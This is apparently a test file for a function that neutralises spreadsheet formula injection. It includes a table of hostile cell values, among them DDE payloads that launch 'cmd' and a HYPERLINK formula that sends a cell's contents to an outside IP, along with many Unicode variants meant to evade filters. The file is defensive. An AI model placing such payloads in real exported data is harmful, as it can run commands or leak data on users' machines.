import { expect, test } from 'vitest'
import { defuseCell } from './defuse-cell.ts'

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://203.0.113.1/?x="&A1;"click")@example.com',
  "=cmd|'/c calc'!A0",
  '+1+1',
  "+cmd|'/c calc'!A0",
  '-1+1',
  "-2+3+cmd|'/c calc'!A0",
  '@SUM(1+1)*cmd',
  '@A1',
  '=',
  '+',
  '-',
  '@',
  '==1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫A1',
  '⁼1',
  '⁺1',
  '⁻1',
  '₌1',
  '₊1',
  '₋1',
  '−1',
  ' =1+1',
  '   +1',
  '\t=1+1',
  '\t1',
  '\t',
  '\r=1+1',
  '\r1',
  '\n=1+1',
  '\n1',
  '\r\n=1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u2003+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '\u2060@A1',
  '\u00AD=1',
  '\u0000=1+1',
  '\u0001-1',
  '\u0007=1',
  '\v=1',
  '\f=1',
  '\u0085=1',
  '\u2028=1',
  '\u2029=1',
  '\u001B=1',
  '\u007F=1',
  '\u{E0020}=1',
  '"=1+1"',
  '""=1',
  ' " =1',
]

test('the table has at least fifty formula prefixes', () => {
  expect(new Set(FORMULAS).size).toBeGreaterThanOrEqual(50)
})

test.each(FORMULAS)('%j gets a leading quote and is otherwise unchanged', (cell) => {
  expect(defuseCell(cell).startsWith("'")).toBe(true)
  // There is a second quote after a tab or line break, where a new cell may begin.
  expect(defuseCell(cell).replaceAll("'", '')).toBe(cell.replaceAll("'", ''))
})

test.each([
  ['x;=1+1;y', "x;'=1+1;y"],
  ['x, =1+1', "x,' =1+1"],
  ['x\n=1+1', "x\n'=1+1"],
  ['x\r\n=1+1', "x\r\n'=1+1"],
  ['x\t+1', "x\t'+1"],
  ['x|"@A1"', `x|'"@A1"`],
  ['=1;=2,-3', "'=1;'=2,'-3"],
])('%j is made safe after characters that another program may read as a delimiter', (cell, safe) => {
  expect(defuseCell(cell)).toBe(safe)
})

test.each([
  '',
  'Ada',
  'ada@example.com',
  'ada+news@example.com',
  "'=1+1",
  '1+1=2',
  '2026-11-02',
  'Müller-Lüdenscheidt',
  '5" disk',
  'a, b; c',
  '😀=1',
  '{"a":"b","c":-1}',
  'x\r\ny',
  '{=1}',
])('%j is not a formula and stays unchanged', (cell) => {
  expect(defuseCell(cell)).toBe(cell)
})

test('defuseCell takes linear time for any content', { tags: ['timed'] }, () => {
  const began = performance.now()
  for (const piece of ['\t', ' ', '=', ',=', '" ', '\u200B', '-,']) defuseCell(piece.repeat(500_000))
  expect(performance.now() - began).toBeLessThan(10_000)
})
